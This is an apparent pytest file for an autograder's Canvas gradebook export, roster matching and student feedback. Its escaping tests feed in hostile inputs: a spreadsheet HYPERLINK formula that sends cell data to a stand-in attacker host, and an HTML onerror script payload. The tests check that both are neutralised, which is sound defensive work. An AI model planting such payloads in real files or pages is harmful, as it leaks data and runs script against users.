"""Gradebook exports: the roster, Canvas's import CSV and the long format."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from grader.curriculum import ROOT, load
from grader.grading import export
from grader.grading.report import write_student
from grader.tests.waiting import HANG_SECONDS


def fake_results(student: str, fraction: float) -> dict:
    """A student's results.json with every exercise at ``fraction`` of its public and hidden points."""
    tests, scores, maxima = [], {}, {}
    for exercise in load().exercises:
        for hidden, worth in ((False, exercise.points), (True, exercise.hidden_points)):
            tests.append({"name": f"{exercise.name}: t", "score": worth * fraction, "max_score": worth,
                          "status": "passed", "tags": [exercise.name] + (["hidden"] if hidden else []),
                          "visibility": "after_published" if hidden else "visible",
                          "extra_data": {"exercise": exercise.name, "nodeid": "x"}})
        scores[exercise.name] = (exercise.points + exercise.hidden_points) * fraction
        maxima[exercise.name] = exercise.points + exercise.hidden_points
    from grader.grading.report import RESULTS_FORMAT

    return {"score": sum(scores.values()), "tests": tests, "output": "",
            "extra_data": {"student": student, "status": "ok", "exercises": scores, "max_exercises": maxima,
                           "max_score": sum(maxima.values()), "format": RESULTS_FORMAT}}


@pytest.fixture
def graded(tmp_path: Path) -> Path:
    out = tmp_path / "grades"
    for student, fraction in (("alice", 1.0), ("bob", 0.5), ("zed-unlisted", 0.25)):
        write_student(out, fake_results(student, fraction))
    return out


def write_roster(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_canvas_export_with_a_roster(graded: Path, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "roster.csv", "folder,lms_id,name,email,section\n"
                          "alice,501,Alice A,alice@example.edu,S1\nBob,502,=HYPERLINK(1),bob@example.edu,S1\n"
                          "carol,503,Carol C,carol@example.edu,S2\n")
    done = subprocess.run([sys.executable, "-m", "grader", "export", str(graded), "--roster", str(roster)],
                          cwd=ROOT, capture_output=True, text=True, timeout=HANG_SECONDS)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO((graded / "canvas.csv").read_text(encoding="utf-8"))))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", load().title]
    total = sum(exercise.points + exercise.hidden_points for exercise in load().exercises)  # fake_results: all
    assert rows[1][0] == "Points Possible" and float(rows[1][5]) == total
    by_id = {row[1]: row for row in rows[2:]}
    assert float(by_id["501"][5]) == total
    assert by_id["502"][5] == ""  # roster folder "Bob" is not submission "bob": flagged, never matched (issue 24)
    assert by_id["503"][5] == ""  # no submission: blank, never 0
    assert by_id["502"][0] == "'=HYPERLINK(1)"  # a roster cell is never a formula
    unmatched = (graded / "unmatched.txt").read_text()
    assert "zed-unlisted" in unmatched and "carol" in unmatched
    assert "flagged: submission bob is not roster folder Bob" in unmatched and "flagged:" in done.stdout
    assert "zed-unlisted" in done.stdout + done.stderr or "zed-unlisted" in unmatched


def test_per_exercise_columns_and_assignment_id(graded: Path, tmp_path: Path) -> None:
    roster = write_roster(tmp_path / "r.csv", "folder,lms_id,name,email\nalice,1,A,a@x\n")
    export.export(graded, export.read_graded(graded), roster, per_exercise=True, echo=lambda _: None)
    rows = list(csv.reader(io.StringIO((graded / "canvas.csv").read_text())))
    curriculum = load()
    assert rows[0][5:] == [f"{e.number}. {e.title}" for e in curriculum.exercises]
    assert [float(x) for x in rows[1][5:]] == [e.points + e.hidden_points for e in curriculum.exercises]
    export.export(graded, export.read_graded(graded), roster, assignment_id="777", echo=lambda _: None)
    assert list(csv.reader(io.StringIO((graded / "canvas.csv").read_text())))[0][5] == f"{curriculum.title} (777)"


def test_long_format_has_per_exercise_maxima_and_the_hidden_part(graded: Path) -> None:
    export.export(graded, export.read_graded(graded), None)
    rows = list(csv.DictReader(io.StringIO((graded / "grades-long.csv").read_text())))
    curriculum = load()
    assert len(rows) == 3 * len(curriculum.exercises)
    bob = {row["exercise"]: row for row in rows if row["student"] == "bob"}
    for exercise in curriculum.exercises:
        assert float(bob[exercise.name]["max"]) == exercise.points + exercise.hidden_points
        assert float(bob[exercise.name]["hidden_max"]) == exercise.hidden_points
        assert float(bob[exercise.name]["points"]) == pytest.approx((exercise.points + exercise.hidden_points) / 2,
                                                                    abs=0.01)
    assert not (graded / "canvas.csv").exists()


@pytest.mark.parametrize("text, message", [
    ("folder,name,email\nalice,A,a@x\n", "missing column"),
    ("folder,lms_id,name,email\nalice,1,A,a\nalice,2,B,b\n", "appears twice"),
    ("folder,lms_id,name,email\n,1,A,a\n", "folder column is empty"),
    # An unquoted comma in a name shifted the email out of its column, and the extra cell was dropped in silence.
    ("folder,lms_id,name,email\nalice,1,Martin, Alice,a@x\n", "line 2: 5 cells, but the header has 4"),
])
def test_a_bad_roster_is_refused_with_the_reason(tmp_path: Path, text: str, message: str) -> None:
    with pytest.raises(export.ExportError, match=message):
        export.read_roster(write_roster(tmp_path / "r.csv", text))


def test_the_canvas_column_names_an_existing_assignment_by_its_id(graded: Path, tmp_path: Path) -> None:
    """Canvas's own export (and so its import) names an assignment's column ``Name (ID)``."""
    roster = write_roster(tmp_path / "r.csv", "folder,lms_id,name,email\nalice,1,A,a@x\nbob,2,B,b@x\n")
    done = subprocess.run([sys.executable, "-m", "grader", "export", str(graded), "--roster", str(roster),
                           "--canvas-assignment-id", "123456", "--canvas-assignment-name", "Self-attention"],
                          cwd=ROOT, capture_output=True, text=True, timeout=HANG_SECONDS)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO((graded / "canvas.csv").read_text(encoding="utf-8"))))
    assert rows[0][5:] == ["Self-attention (123456)"]
    total = sum(e.points + e.hidden_points for e in load().exercises)
    assert rows[1][:1] + rows[1][5:] == ["Points Possible", f"{total:g}"]
    assert [row[5] for row in rows[2:]] == [f"{total:g}", f"{total / 2:g}"]  # alice: all, bob: half
    assert export.canvas_assignment("Quiz", "42").column == "Quiz (42)"
    assert export.canvas_assignment(None, None).column == load().title  # no id: Canvas creates an assignment
    assert export.canvas_assignment(None, " 7 ").column == f"{load().title} (7)"


@pytest.mark.parametrize("arguments, message", [
    (["--canvas-assignment-id", "12a"], "a Canvas assignment id is a number"),
    (["--canvas-assignment-name", " "], "the name is empty"),
    (["--canvas-assignment-id", "12", "--per-exercise"], "without --per-exercise"),
])
def test_a_canvas_assignment_that_cannot_be_right_is_refused(graded: Path, tmp_path: Path, arguments: list[str],
                                                               message: str) -> None:
    roster = write_roster(tmp_path / "r.csv", "folder,lms_id,name,email\nalice,1,A,a@x\n")
    done = subprocess.run([sys.executable, "-m", "grader", "export", str(graded), "--roster", str(roster),
                           *arguments], cwd=ROOT, capture_output=True, text=True, timeout=HANG_SECONDS)
    assert done.returncode == 2 and message in done.stderr, done.stderr
    assert not (graded / "canvas.csv").exists()


def test_published_feedback_names_the_failed_hidden_tests(tmp_path: Path) -> None:
    """Before publication a failed hidden test is only counted; after, its name and message are shown."""
    results = fake_results("dana", 1.0)
    hidden = next(t for t in results["tests"] if "hidden" in t["tags"] and t["extra_data"]["exercise"] == "softmax")
    hidden.update(status="failed", score=0.0, name="softmax: test_hidden_rows_of_minus_inf",
                  output="FAILURE: a row of -inf\n  expected: zeros\n  observed: nan")
    out = tmp_path / "grades"
    write_student(out, results)
    before = (out / "dana" / "feedback.md").read_text(encoding="utf-8")
    assert "1 further test(s) of this exercise failed" in before
    assert "test_hidden_rows_of_minus_inf" not in before and "observed: nan" not in before
    done = subprocess.run([sys.executable, "-m", "grader", "export", str(out), "--published"],
                          cwd=ROOT, capture_output=True, text=True, timeout=HANG_SECONDS)
    assert done.returncode == 0, done.stderr
    after = (out / "dana" / "feedback.md").read_text(encoding="utf-8")
    assert "### softmax: test_hidden_rows_of_minus_inf (hidden test)" in after
    assert "observed: nan" in after and "further test(s)" not in after
    assert after.split("## 2.")[0].count("### ") == 1  # only the failed test, in its exercise's section


def test_a_failed_hidden_test_tells_its_idea_not_the_exercises_hint(tmp_path: Path) -> None:
    """Only hidden tests failed: feedback.md gives their ideas to revisit, not the hint on another step.

    The exercise's hint is about one step (``hint_step``); blind mistakes elsewhere (a decoder's replacement
    character, a default itemsize) were sent to that step. A visible failure keeps the hint beside its message.
    """
    softmax = load().exercise("softmax")
    idea = "a row of scores that are all minus infinity: zeros (nothing to attend to), never NaN"
    results = fake_results("erin", 1.0)
    hidden = next(t for t in results["tests"] if "hidden" in t["tags"] and t["extra_data"]["exercise"] == "softmax")
    hidden.update(status="failed", score=0.0, output="FAILURE: a row of -inf\n  observed: nan")
    hidden["extra_data"]["revisit"] = idea
    out = tmp_path / "grades"
    write_student(out, results)
    text = (out / "erin" / "feedback.md").read_text(encoding="utf-8")
    section = text.split("## 1.")[1].split("\n## 2.")[0]
    assert "1 further test(s) of this exercise failed" in section
    assert "minus infinity: zeros \\(nothing to attend to\\), never NaN" in section, section
    assert softmax.hints[0][:40] not in text and "Hint:" not in section
    assert "observed: nan" not in text  # the hidden message itself still waits for publication

    visible = next(t for t in results["tests"] if "hidden" not in t["tags"]
                   and t["extra_data"]["exercise"] == "softmax")
    visible.update(status="failed", score=0.0, output="FAILURE: rows sum to one\n  observed: 2.0")
    write_student(out, results)
    text = (out / "erin" / "feedback.md").read_text(encoding="utf-8")
    assert f"Hint (on {softmax.hint_step}): {softmax.hints[0]}" in text  # which step the hint is about


def test_the_hint_is_given_for_a_failure_of_the_functions_its_step_is_about(tmp_path: Path) -> None:
    """``hint_functions``: exercise 7's hint on the order of residuals, for transformer_layer's failures only.

    Every failure of exercise 7 used to end with it, a dropout's too (a lead to the wrong step).
    """
    layer = load().exercise("layer")
    assert layer.hint_functions == ("transformer_layer",)
    results = fake_results("gus", 1.0)
    visible = next(t for t in results["tests"] if "hidden" not in t["tags"] and t["extra_data"]["exercise"] == "layer")
    visible.update(status="failed", score=0.0, output="FAILURE: kept entries of dropout\n  observed: 1.13")
    visible["extra_data"]["functions"] = ["dropout"]
    out = tmp_path / "grades"
    write_student(out, results)
    section = (out / "gus" / "feedback.md").read_text(encoding="utf-8").split("## 7.")[1].split("\n## 8.")[0]
    assert "observed: 1.13" in section and "Hint" not in section and layer.hints[0][:40] not in section, section
    visible["extra_data"]["functions"] = ["init_transformer_layer", "transformer_layer"]
    write_student(out, results)
    section = (out / "gus" / "feedback.md").read_text(encoding="utf-8").split("## 7.")[1].split("\n## 8.")[0]
    assert f"Hint (on {layer.hint_step}): {layer.hints[0]}" in section, section


def test_a_course_that_hides_its_hidden_tests_never_names_them_in_feedback(tmp_path: Path) -> None:
    """``[hidden] visibility = "hidden"``: a failed hidden test is counted, never named, published or not."""
    results = fake_results("finn", 1.0)
    hidden = next(t for t in results["tests"] if "hidden" in t["tags"] and t["extra_data"]["exercise"] == "softmax")
    hidden.update(status="failed", score=0.0, name="softmax: test_hidden_rows_of_minus_inf", visibility="hidden",
                  output="FAILURE: a row of -inf\n  observed: nan")
    out = tmp_path / "grades"
    write_student(out, results)
    before = (out / "finn" / "feedback.md").read_text(encoding="utf-8")
    assert "1 further test(s) of this exercise failed" in before
    assert "shows neither their names nor their messages" in before and "when grades are published" not in before
    done = subprocess.run([sys.executable, "-m", "grader", "export", str(out), "--published"],
                          cwd=ROOT, capture_output=True, text=True, timeout=HANG_SECONDS)
    assert done.returncode == 0, done.stderr
    after = (out / "finn" / "feedback.md").read_text(encoding="utf-8")
    assert "test_hidden_rows_of_minus_inf" not in after and "observed: nan" not in after
    assert "1 further test(s) of this exercise failed" in after


def test_texts_of_a_course_and_of_students_are_escaped_in_csv_headers_and_markdown(
        graded: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A formula in ``[canvas] assignment_name`` is a header, not a formula; a link in an id is text in feedback."""
    import dataclasses

    from grader import course
    from grader.grading import report

    formula = '=HYPERLINK("http://evil.example/?"&A3,"Grade")'
    monkeypatch.setattr(course, "canvas", lambda: (formula, None))  # what course.toml's [canvas] gives
    roster = write_roster(tmp_path / "r.csv", "folder,lms_id,name,email\nalice,1,A,a@x\n")
    export.export(graded, export.read_graded(graded), roster, echo=lambda _: None)
    header = next(csv.reader(io.StringIO((graded / "canvas.csv").read_text(encoding="utf-8"))))
    assert header[5] == "'" + formula, header
    for tab in ("\t=1+1", "@SUM(A1)", "-2+3", "+1"):
        monkeypatch.setattr(course, "canvas", lambda tab=tab: (tab, None))
        text = export.canvas_csv(export.read_graded(graded), export.match_roster(["alice"], {"alice": {
            "folder": "alice"}}), {"alice": {"folder": "alice"}})
        assert not next(csv.reader(io.StringIO(text)))[5].startswith(("=", "+", "-", "@", "\t")), text

    mistune = pytest.importorskip("mistune")
    evil = "[click](http:evil.example)"
    monkeypatch.setattr(report, "load_curriculum", lambda: dataclasses.replace(load(), title=f"Course {evil}"))
    results = fake_results(evil, 1.0)
    results["extra_data"]["status"] = f"refused: {evil}.zip holds <img src=x onerror=alert(1)>"
    page = mistune.create_markdown(plugins=["table", "url"])(report.feedback_markdown(results))
    assert evil in page and "<a " not in page and "<img" not in page, page
